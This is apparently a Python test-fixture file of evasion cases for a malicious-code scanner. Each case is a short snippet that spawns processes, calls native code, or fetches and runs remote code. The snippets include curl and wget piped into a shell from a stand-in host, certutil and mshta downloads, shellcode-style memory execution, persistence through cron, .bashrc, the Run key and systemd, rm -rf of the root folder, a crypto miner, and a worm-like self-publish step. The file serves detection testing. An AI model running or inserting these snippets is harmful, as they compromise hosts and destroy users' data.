"""Roads to another process, to native code, and to code that lies elsewhere."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion.case import HIGH, MEDIUM, Case

PROGRAMS = (
    Case("os.system", MEDIUM, "import os\nos.system('id')\n", family="STDLIB"),
    Case("os.popen", MEDIUM, "import os\nos.popen('id').read()\n", family="STDLIB"),
    Case("os.execvp", MEDIUM, "import os\nos.execvp('id', ['id'])\n", family="STDLIB"),
    Case("os.execl", MEDIUM, "import os\nos.execl('/bin/id', 'id')\n", family="STDLIB"),
    Case("os.spawnlp", MEDIUM, "import os\nos.spawnlp(os.P_NOWAIT, 'id', 'id')\n", family="STDLIB"),
    Case("posix_spawn", MEDIUM, "import os\nos.posix_spawn('/bin/id', ['id'], {})\n", family="STDLIB"),
    Case("fork and exec", MEDIUM, "import os\nif os.fork() == 0:\n    os.execve('/bin/id', ['id'], {})\n"),
    Case("startfile", MEDIUM, "import os\nos.startfile('calc.exe')\n", family="STDLIB"),
    Case("subprocess.Popen", MEDIUM, "from subprocess import Popen as P\nP(['id'])\n", family="STDLIB"),
    Case("subprocess.getoutput", MEDIUM, "import subprocess as s\ns.getoutput('id')\n", family="STDLIB"),
    Case("_posixsubprocess", MEDIUM, """
        import _posixsubprocess
        _posixsubprocess.fork_exec(["id"], [b"/bin/id"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False,
                                   False, 0, None, None, None, -1, None, False)
    """),
    Case("pty.spawn", MEDIUM, "import pty\npty.spawn('/bin/sh')\n"),
    Case("commands, Python 2", MEDIUM, "import commands\ncommands.getoutput('id')\n"),
    Case("distutils.spawn", MEDIUM, "from distutils.spawn import spawn\nspawn(['id'])\n"),
    Case("platform.popen", MEDIUM, "import platform\nplatform.popen('id')\n"),
    Case("asyncio.create_subprocess_exec", MEDIUM, """
        import asyncio
        asyncio.run(asyncio.create_subprocess_exec("id"))
    """),
    Case("webbrowser with a program of one's own", MEDIUM, """
        import webbrowser
        webbrowser.register("x", None, webbrowser.GenericBrowser("id"))
        webbrowser.get("x").open("a")
    """),
    Case("ctypes, system of libc", MEDIUM, "import ctypes\nctypes.CDLL(None).system(b'id')\n"),
    Case("ctypes, by find_library", MEDIUM, """
        import ctypes, ctypes.util
        libc = ctypes.CDLL(ctypes.util.find_library("c"))
        libc.system(b"id")
    """),
    Case("ctypes, cdll of msvcrt", MEDIUM, "import ctypes\nctypes.cdll.msvcrt.system(b'calc')\n"),
    Case("ctypes, WinExec", MEDIUM, "import ctypes\nctypes.windll.kernel32.WinExec(b'calc.exe', 1)\n"),
    Case("ctypes, memory that runs", HIGH, """
        import ctypes
        code = b"\\x90" * 64
        at = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
        ctypes.windll.kernel32.RtlMoveMemory(at, code, len(code))
        ctypes.windll.kernel32.CreateThread(0, 0, at, 0, 0, 0)
    """),
    Case("cffi", MEDIUM, """
        from cffi import FFI
        ffi = FFI()
        ffi.cdef("int system(const char *);")
        ffi.dlopen(None).system(b"id")
    """),
    Case("runpy.run_path", MEDIUM, "import runpy\nrunpy.run_path('/tmp/x.py')\n"),
    Case("a module made of a file elsewhere", MEDIUM, """
        import importlib.util
        spec = importlib.util.spec_from_file_location("x", "/tmp/x.py")
        made = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(made)
    """),
    Case("a module made of source text", HIGH, """
        import base64, importlib.abc, importlib.util
        class Loader(importlib.abc.Loader):
            def exec_module(self, module):
                exec(base64.b64decode("<B64>"), module.__dict__)
        spec = importlib.util.spec_from_loader("made", Loader())
        made = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(made)
    """),
    Case("zipimport", MEDIUM, "import zipimport\nzipimport.zipimporter('/tmp/x.zip').load_module('x')\n"),
    Case("a folder put in front of the path", MEDIUM, """
        import sys
        sys.path.insert(0, "/tmp/.hidden")
        exec("import hidden_helper; hidden_helper.start()")
    """),
    Case("a shell with a hidden window", HIGH, """
        import subprocess
        subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand <POWERSHELL>", shell=True, creationflags=0x08000000)
    """),
    Case("curl into a shell", HIGH, """
        import os
        os.system("curl -s https://example.invalid/a | sh")
    """, family="FETCH"),
    Case("wget, then chmod, then start", HIGH, """
        import os
        os.system("wget -q https://example.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a &")
    """, family="FETCH"),
    Case("curl in words", HIGH, """
        import subprocess
        subprocess.run(["bash", "-c", "curl -fsSL https://example.invalid/a | bash"])
    """, family="FETCH"),
    Case("a shell that decodes", HIGH, """
        import os
        os.system("echo aWQ= | base64 -d | sh")
    """),
    Case("mshta", HIGH, "import os\nos.system('mshta https://example.invalid/a.hta')\n"),
    Case("certutil", HIGH, """
        import os
        os.system("certutil -urlcache -f https://example.invalid/a.exe %TEMP%\\\\a.exe && %TEMP%\\\\a.exe")
    """),
    Case("python -c in a shell", HIGH, """
        import os
        os.system("python3 -c \\"exec(__import__('base64').b64decode('<B64>'))\\"")
    """),
    Case("pip from an address", HIGH, """
        import subprocess, sys
        subprocess.check_call([sys.executable, "-m", "pip", "install", "https://example.invalid/a.tar.gz"])
    """),
    Case("pip in the process", HIGH, """
        import pip
        pip.main(["install", "--index-url", "https://example.invalid/simple", "helper"])
    """),
    Case("a line in the shell's start file", HIGH, """
        import os
        with open(os.path.expanduser("~/.bashrc"), "a") as out:
            out.write("python3 /tmp/x.py &\\n")
    """, family="PERSIST"),
    Case("cron", HIGH, """
        import os
        os.system('(crontab -l; echo "* * * * * python3 /tmp/x.py") | crontab -')
    """, family="PERSIST"),
    Case("the Run key", HIGH, """
        import winreg
        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)
        winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, "pythonw C:\\\\x.py")
    """, family="PERSIST"),
    Case("a unit of systemd", HIGH, """
        import os
        open("/etc/systemd/system/x.service", "w").write("[Service]\\nExecStart=/tmp/x\\n")
        os.system("systemctl enable x")
    """, family="PERSIST"),
    Case("the home folder is deleted", HIGH, """
        import os, shutil
        shutil.rmtree(os.path.expanduser("~"))
    """, family="WIPE"),
    Case("rm -rf", HIGH, "import os\nos.system('rm -rf / --no-preserve-root')\n", family="WIPE"),
    Case("a miner", HIGH, """
        import subprocess
        subprocess.Popen(["/tmp/xmrig", "-o", "stratum+tcp://example.invalid:3333", "-u", "wallet"])
    """, family="MINE"),
    Case("publishes itself", HIGH, """
        import os, subprocess
        if os.path.exists(os.path.expanduser("~/.pypirc")):
            subprocess.run(["twine", "upload", "dist/*"])
    """, family="WORM"),
    Case("plants a workflow", HIGH, """
        import os
        os.makedirs(".github/workflows", exist_ok=True)
        with open(".github/workflows/ci.yml", "w") as out:
            out.write("on: push\\njobs: {a: {runs-on: x, steps: [{run: 'curl https://example.invalid | sh'}]}}\\n")
    """, family="PERSIST"),
)  # fmt: skip
